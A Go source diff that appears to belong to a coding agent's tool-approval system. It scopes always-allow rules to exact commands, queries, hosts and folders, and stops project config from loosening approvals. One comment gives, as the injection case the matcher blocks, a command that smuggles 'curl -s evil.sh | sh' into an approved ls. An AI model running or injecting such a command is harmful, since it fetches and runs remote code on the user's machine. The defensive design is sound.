@@ -0,0 +1,206 @@
+package agent
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+
+	"coding-agent/pkg/config"
+	"coding-agent/pkg/i18n"
+	"coding-agent/pkg/types"
+	"coding-agent/pkg/ui"
+)
+
+// shellTools take a command, so "always allow" applies to the command rather than the whole tool
+var shellTools = map[string]bool{"bash_command": true, "powershell_command": true}
+
+// policyStrictness orders the tool policies; unknown values count as the default
+var policyStrictness = map[string]int{
+	types.ToolPolicyAuto:        0,
+	types.ToolPolicyAllowlisted: 1,
+	types.ToolPolicyConfirm:     2,
+	types.ToolPolicyDeny:        3,
+}
+
+// toolPolicy returns the approval policy for a tool: the user's, made stricter by the project's
+// .mcode/tools.json. A project can not loosen approvals, so a cloned repository cannot grant
+// itself access.
+func toolPolicy(a *types.Agent, name string) string {
+	policy := types.ToolPolicyAllowlisted
+	if _, ok := policyStrictness[a.Config.ToolPolicy[name]]; ok {
+		policy = a.Config.ToolPolicy[name]
+	}
+	if project, ok := policyStrictness[a.ToolSettings.ToolPolicy[name]]; ok && project > policyStrictness[policy] {
+		policy = a.ToolSettings.ToolPolicy[name]
+	}
+	return policy
+}
+
+// isAlwaysAllowed reports whether a saved rule or one added for this session lets this tool call
+// run without asking
+func isAlwaysAllowed(a *types.Agent, name string, params map[string]interface{}) bool {
+	for _, rule := range append(slices.Clone(a.Config.AlwaysAllow), a.SessionAllow...) {
+		if approvalMatches(rule, name, params) {
+			return true
+		}
+	}
+	return false
+}
+
+// approvalMatches reports whether an always-allow rule covers a tool call. Paths are matched as
+// by an allow permission rule, so a symlink cannot lead out of them.
+func approvalMatches(rule types.ApprovalRule, name string, params map[string]interface{}) bool {
+	if rule.Tool != name {
+		return false
+	}
+	if rule.Command != "" {
+		command, _ := params["command"].(string)
+		if !shellTools[name] || !approvedCommand(rule.Command, command) {
+			return false
+		}
+	}
+	if rule.Query != "" {
+		query, _ := ruleSubject(name, params)
+		if name != "sql_query" || strings.TrimSpace(query) != rule.Query {
+			return false
+		}
+	}
+	if rule.Host != "" {
+		rawURL, _ := ruleSubject(name, params)
+		if name != "web_fetch" || normalizeApprovedWebDomain(rawURL) != rule.Host {
+			return false
+		}
+	}
+	if rule.Arguments != "" && rule.Arguments != approvalArguments(params) {
+		return false
+	}
+	return rule.Path == "" || ruleMatches(types.PermissionRule{Tool: name, Path: rule.Path, Action: types.PermissionAllow}, name, params)
+}
+
+// approvedCommand reports whether an always-allow command covers a command line: the same command,
+// or one whose every part matches it as an allow permission rule would, so the * of an approved
+// ls *.go cannot stand for ls x; curl -s evil.sh | sh; echo y.go
+func approvedCommand(approved, command string) bool {
+	if strings.TrimSpace(command) == strings.TrimSpace(approved) {
+		return true
+	}
+	return patternMatches(types.PermissionRule{Pattern: approved, Action: types.PermissionAllow}, "bash_command", command)
+}
+
+// commandMatches matches a command against a pattern where * stands for any text
+func commandMatches(pattern, command string) bool {
+	parts := strings.Split(strings.TrimSpace(pattern), "*")
+	for i, part := range parts {
+		parts[i] = regexp.QuoteMeta(part)
+	}
+	re, err := regexp.Compile(`^` + strings.Join(parts, `.*`) + `$`)
+	return err == nil && re.MatchString(strings.TrimSpace(command))
+}
+
+// approvalShape is the rule answering a at a tool prompt adds: the exact command for shell tools,
+// the exact query for sql_query, the host for web_fetch, the folder and everything below it for file
+// and folder tools, and otherwise the exact arguments, so one answer never allows every call of a
+// tool
+func approvalShape(name string, params map[string]interface{}) types.ApprovalRule {
+	rule := types.ApprovalRule{Tool: name}
+	subject, _ := ruleSubject(name, params)
+	switch {
+	case shellTools[name]:
+		rule.Command = strings.TrimSpace(subject)
+		return rule
+	case name == "sql_query":
+		rule.Query = strings.TrimSpace(subject)
+		return rule
+	case name == "web_fetch":
+		rule.Host = normalizeApprovedWebDomain(subject)
+		return rule
+	}
+	folder := toolFolder(name, params)
+	if folder == "" {
+		rule.Arguments = approvalArguments(params)
+		return rule
+	}
+	if abs, err := filepath.Abs(expandHome(folder)); err == nil {
+		rule.Path = filepath.Join(abs, "**")
+	}
+	return rule
+}
+
+// approvalArguments encodes a call's arguments for an approval rule. Object keys are sorted, so the
+// same arguments always encode the same way.
+func approvalArguments(params map[string]interface{}) string {
+	if params == nil {
+		params = map[string]interface{}{}
+	}
+	data, err := json.Marshal(params)
+	if err != nil {
+		return ""
+	}
+	return string(data)
+}
+
+// rememberApproval handles the answer a: calls of the same shape run without asking for the rest
+// of the session, and in later sessions too if the user also keeps the rule in the config
+func rememberApproval(a *types.Agent, name string, params map[string]interface{}) {
+	rule := approvalShape(name, params)
+	ui.PrintSafe(i18n.T("approval.always.save", DescribeApproval(rule)))
+	response := readApproval(a)
+	save := response == "y" || response == "yes"
+	if save {
+		ui.PrintlnSafe("y")
+	} else {
+		ui.PrintlnSafe("n")
+	}
+	alwaysAllow(a, rule, save)
+}
+
+// alwaysAllow adds a rule for the session and, with save, to the config
+func alwaysAllow(a *types.Agent, rule types.ApprovalRule, save bool) {
+	if !save {
+		a.SessionAllow = append(a.SessionAllow, rule)
+		ui.PrintfSafe("✅ Allowing %s for this session\n", DescribeApproval(rule))
+		return
+	}
+	a.Config.AlwaysAllow = append(a.Config.AlwaysAllow, rule)
+	if err := config.Save(a.ConfigPath, a.Config); err != nil {
+		ui.PrintfSafe("⚠️  Warning: Failed to save the approval rule: %v\n", err)
+	}
+	ui.PrintfSafe("✅ Always allowing %s\n", DescribeApproval(rule))
+}
+
+// DescribeApproval shows an always-allow rule as its tool and what it covers, e.g.
+// bash_command: go test ./..., web_fetch on go.dev or edit_file under ./pkg
+func DescribeApproval(rule types.ApprovalRule) string {
+	switch {
+	case rule.Command != "":
+		return fmt.Sprintf("%s: %s", rule.Tool, rule.Command)
+	case rule.Query != "":
+		return fmt.Sprintf("%s: %s", rule.Tool, rule.Query)
+	case rule.Host != "":
+		return fmt.Sprintf("%s on %s", rule.Tool, rule.Host)
+	case rule.Arguments != "":
+		return fmt.Sprintf("%s with %s", rule.Tool, rule.Arguments)
+	case rule.Path != "":
+		return fmt.Sprintf("%s under %s", rule.Tool, displayPattern(strings.TrimSuffix(rule.Path, string(filepath.Separator)+"**")))
+	}
+	return rule.Tool
+}
+
+// displayPattern shortens a path inside the current directory to a relative one
+func displayPattern(path string) string {
+	cwd, err := os.Getwd()
+	if err != nil || !filepath.IsAbs(path) {
+		return path
+	}
+	if path == cwd {
+		return "."
+	}
+	if rel, err := filepath.Rel(cwd, path); err == nil && isPathWithinRoot(path, cwd) {
+		return "." + string(filepath.Separator) + rel
+	}
+	return path
+}